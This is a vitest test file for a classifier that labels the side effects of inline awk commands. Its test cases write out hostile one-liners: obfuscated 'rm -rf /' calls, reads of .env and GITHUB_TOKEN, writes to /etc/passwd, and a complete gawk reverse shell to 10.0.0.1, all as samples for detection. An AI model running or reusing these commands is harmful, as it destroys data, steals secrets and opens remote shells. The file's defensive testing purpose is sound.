import { describe, expect, it } from 'vitest';
import { effectsOf, quoted } from './effects-of.ts';

const table: Readonly<Record<string, readonly string[]>> = {
	'{print $1}': [],
	'{a[NR] = $0} END {for (i = NR; i > 0; i--) print a[i]}': [],
	'BEGIN {while (i++ < 10) print i, i * i}': [],
	'{print "x" > "out" ".txt"}': ['write out.txt'],
	'NR>1 && $3 ~ /x/ {c[$1]++} END {for (k in c) print k, c[k]}': [],
	'{sum += $1} END {print sum / NR}': [],
	'/foo|bar/ {print FILENAME ": " $0}': [],
	'BEGIN {FS=","} {gsub(/"/, ""); printf "%s\\n", $2}': [],
	'{print (a > b)}': [],
	'$1 > 5': [],
	'length($0) > 80 {print NR}': [],
	'!seen[$0]++': [],
	'function f(x) {return x * 2}\n{print f($1)}': [],
	'{print $1 > "/dev/stderr"}': [],
	'BEGIN {print ENVIRON["HOME"]}': [],
	'# system("rm -rf /")\n{print}': [],
	'{print "system(rm)"}': [],
	'BEGIN {system("rm -rf /")}': ['delete / recursive'],
	'BEGIN {c = "rm -rf"; system(c " /")}': ['delete / recursive'],
	'BEGIN {system("\\162m -rf /")}': ['delete / recursive'],
	'BEGIN {system(sprintf("%c%c", 114, 109) " -rf /")}': ['delete / recursive'],
	'BEGIN {print "x" | "rm -rf /"}': ['delete / recursive'],
	'BEGIN {print "rm -rf /" | "sh"}': ['delete / recursive', 'opaque'],
	'BEGIN {"cat .env" | getline x; print x}': ['secret.read .env'],
	'BEGIN {while (("cat .env" | getline x) > 0) print x}': ['secret.read .env'],
	'BEGIN {while ((getline x < ".env") > 0) print x}': ['secret.read .env'],
	'BEGIN {getline x < "a"; print x}': ['read a'],
	'{print > "out"}': ['write out'],
	'{print $1 >> ".git/config"}': ['config.write .git/config'],
	'{print "x" > "/etc/passwd"}': ['config.write /etc/passwd'],
	'{print > $1}': ['opaque'],
	'{print | $1}': ['opaque'],
	'{system($0)}': ['opaque'],
	'BEGIN {print ENVIRON["GITHUB_TOKEN"]}': ['secret.read $GITHUB_TOKEN'],
	'BEGIN {for (k in ENVIRON) print k, ENVIRON[k]}': ['secret.read the environment'],
	'BEGIN {c = "ls"; gsub(/ls/, "rm -rf /", c); system(c)}': ['delete / recursive', 'opaque', 'read .'],
	'BEGIN {f = "system"; @f("ls")}': ['opaque'],
	'@load "filefuncs"\nBEGIN {x()}': ['opaque'],
	'BEGIN {ARGV[1] = ".env"}': ['opaque', 'secret.read .env'],
	'{print "a': ['opaque'],
	'BEGIN {x++ / y; system("ls") /}': ['opaque'],
	'BEGIN {s = "/inet/tcp/0/10.0.0.1/80"; print "GET /" |& s}': ['network 10.0.0.1'],
};

describe('inline awk', () => {
	it.each(Object.entries(table))('has exactly the expected effects: %s', (code, expected) => {
		expect(effectsOf(`awk ${quoted(code)}`)).toEqual([...expected].sort());
	});

	it('is recognized as a reverse shell', () => {
		const code =
			'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while (42) { do { printf "> " |& s; s |& getline c; if (c) { while ((c |& getline) > 0) print $0 |& s; close(c) } } while (c != "exit"); close(s) }}';
		expect(effectsOf(`awk ${quoted(code)}`)).toContain('reverse shell');
	});

	it.each([
		["awk -F, '{print $2}' a b", ['read a', 'read b']],
		["awk -v x=1 '$1 == x' OFS=, a", ['read a']],
		["awk 'BEGIN {c = \"ls\"} {system(c)}' c='rm -rf /' a", ['opaque', 'read .', 'read a']],
		['awk -f x.awk a', ['exec x.awk', 'read a']],
		["gawk -e '{print}' -e 'BEGIN {system(\"rm x\")}' a", ['delete x', 'read a']],
		["cat a | awk '{print}' | sort", ['read a']],
	])('has the expected effects in a whole command: %s', (command, expected) => {
		expect(effectsOf(command)).toEqual([...expected].sort());
	});
});
